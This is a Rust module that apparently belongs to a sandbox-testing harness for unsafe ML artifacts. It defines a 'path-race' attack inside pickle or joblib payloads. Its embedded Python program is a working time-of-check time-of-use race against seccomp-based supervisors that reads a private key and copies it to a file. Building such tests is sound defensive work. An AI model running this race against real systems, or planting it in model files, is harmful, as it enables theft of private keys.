//! Changes a path between the look of whoever decides and the look of the kernel.

use super::*;

/// One thread opens a path while another writes over it.
pub const ATTACK: Attack = Attack {
    id: "path-race",
    title: "a race for a path",
    summary: "One thread asks again and again to open a file that may be read, while another writes \
              the path of a private key over its name. Who reads the path, finds it harmless and lets \
              the call go on has looked at a path that the kernel then does not open. This one ends \
              after less than a second, asks for the key openly if it lost, and writes down what it \
              got.",
    severity: Severity::High,
    targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
    techniques: &[
        techniques::NATIVE_API,
        techniques::PRIVATE_KEYS,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 367],
    references: &[
        Reference {
            title: "Linux manual: seccomp_unotify(2), on letting calls continue",
            url: "https://man7.org/linux/man-pages/man2/seccomp_unotify.2.html",
        },
        Reference {
            title: "CWE-367: time-of-check time-of-use race condition",
            url: "https://cwe.mitre.org/data/definitions/367.html",
        },
    ],
    build,
    expected: Expected::Effect {
        // Which of the two paths was seen when the race is won is chance; that the key was had is not.
        aquarium: &[Sign::Created("key-copy.txt")],
        policy: &[Evidence { kind: EventKind::FileRead, text: KEY }],
    },
    quick: false,
};

/// Threads take turns after 20 microseconds, not after five milliseconds: there are as many tries in half
/// a second as are needed, and the race is over soon. The other thread writes one name a round, since Python
/// interrupts a loop at its end alone: it would always be the last of two that is seen. A name that the kernel
/// reads while it is half written can lead to a directory, which opens and cannot be read.
const PROGRAM: &str = "import os, sys, threading, time
sys.setswitchinterval(0.00002)
size = max(len(allowed), len(hidden)) + 1
names = [list(name.ljust(size, b'\\0')) for name in (allowed, hidden)]
buffer = (Byte * size)()
buffer[:] = names[0]
on = [True]
def flip():
    at = 0
    while on[0]:
        at = 1 - at
        buffer[:] = names[at]
other = threading.Thread(target=flip, daemon=True)
other.start()
tries, opened, won = 0, 0, b''
end = time.monotonic() + 0.5
while time.monotonic() < end and not won:
    tries += 1
    descriptor = libc('open', buffer, 0)
    if descriptor >= 0:
        opened += 1
        try:
            said = os.read(descriptor, 400)
            if mark in said:
                won = said
        except OSError:
            pass
        os.close(descriptor)
on[0] = False
other.join()
if not won:
    libc('open', hidden, 0)
print('tries', tries, 'opened', opened, 'won', int(bool(won)))
if won:
    try:
        with open(copy, 'wb') as file:
            file.write(won)
    except OSError:
        pass
";

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let variables = format!(
        "allowed, hidden, mark = b'/usr/lib/os-release', {}.encode(), b'{KEY_MARK}'\ncopy = {}\n",
        payload::quoted(&scene.path(KEY)),
        payload::quoted(&scene.path("key-copy.txt")),
    );
    payload::program(ATTACK.id, target, &[payload::LIBC, &variables, PROGRAM].concat())
}
